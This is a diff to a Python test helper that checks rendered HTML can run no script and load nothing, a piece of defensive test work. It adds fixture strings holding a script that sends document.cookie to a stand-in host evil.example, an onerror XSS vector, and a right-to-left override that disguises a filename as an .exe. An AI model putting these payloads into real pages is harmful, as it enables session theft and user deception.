@@ -1,6 +1,14 @@
-"""Read a written HTML page."""
+"""Read a written HTML page, and check that nothing in it can run or load anything."""
 
+import re
 from html.parser import HTMLParser
+
+PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
+HOSTILE = (
+    f"{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 ```\n# not a heading | `tick` "
+    '![x](https://evil.example/x.png) $x^2$ " 漢'
+)
+POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"
 
 
 class Page(HTMLParser):
@@ -19,3 +27,23 @@ class Page(HTMLParser):
 
     def handle_data(self, data):
         self.text += data
+
+
+def safe_page(html: str) -> Page:
+    """Return a page that runs no script, loads nothing, and whose references find their targets."""
+    page = Page(html)
+    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
+    assert not [
+        name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")
+    ]
+    assert all(value.startswith("#") for name, value in page.attributes if "href" in name)
+    policy = (
+        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"
+    )
+    assert ("content", policy) in page.attributes
+    assert "url(http" not in html
+    assert "@import" not in html
+    ids = re.findall(r'\bid="([^"]+)"', html)
+    assert len(ids) == len(set(ids))
+    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)
+    return page
